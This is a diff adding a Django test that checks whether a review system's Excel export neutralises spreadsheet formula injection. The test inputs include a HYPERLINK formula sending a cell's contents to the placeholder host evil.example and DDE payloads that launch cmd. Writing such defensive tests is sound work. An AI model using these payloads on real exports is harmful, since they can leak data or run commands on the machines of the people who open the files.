@@ -93,3 +93,41 @@ def test_administrator_release_button_releases_a_due_round(admin_client):
     assert "已统一退回 1 份申报（通过 1" in response.content.decode()
     declaration.refresh_from_db()
     assert declaration.status == Status.PASSED
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"点此查看")'
+
+
+def test_formulas_typed_by_applicants_and_reviewers_are_plain_text_in_every_sheet(client):
+    declaration_round = make_round(("初审",))
+    stage = ReviewStage.objects.get(round=declaration_round)
+    declaration = submitted_declaration(declaration_round, real_name=HYPERLINK, employer="+cmd|' /C calc'!A0")
+    review_decisions.decide(
+        declaration.pk,
+        stage.pk,
+        reviewer(real_name="@SUM(1+1)*cmd"),
+        failing(papers="-2+3+cmd|' /C calc'!A0"),
+        Decision.FAIL,
+        "+SUM(A1:A9)",
+    )
+    client.force_login(reviewer())
+    workbook = load_workbook(BytesIO(client.get(f"/admin/review/rounds/{declaration_round.pk}/export.xlsx").content))
+
+    texts = set()
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet.title, cell.value)
+                    texts.add((sheet.title, cell.value))
+    assert {
+        ("申报与审核结论", f"'{HYPERLINK}"),
+        ("申报与审核结论", "'+cmd|' /C calc'!A0"),
+        ("申报与审核结论", "'@SUM(1+1)*cmd"),
+        ("申报与审核结论", "'+SUM(A1:A9)"),
+        ("栏目审核意见", f"'{HYPERLINK}"),
+        ("栏目审核意见", "'@SUM(1+1)*cmd"),
+        ("栏目审核意见", "'-2+3+cmd|' /C calc'!A0"),
+    } <= texts
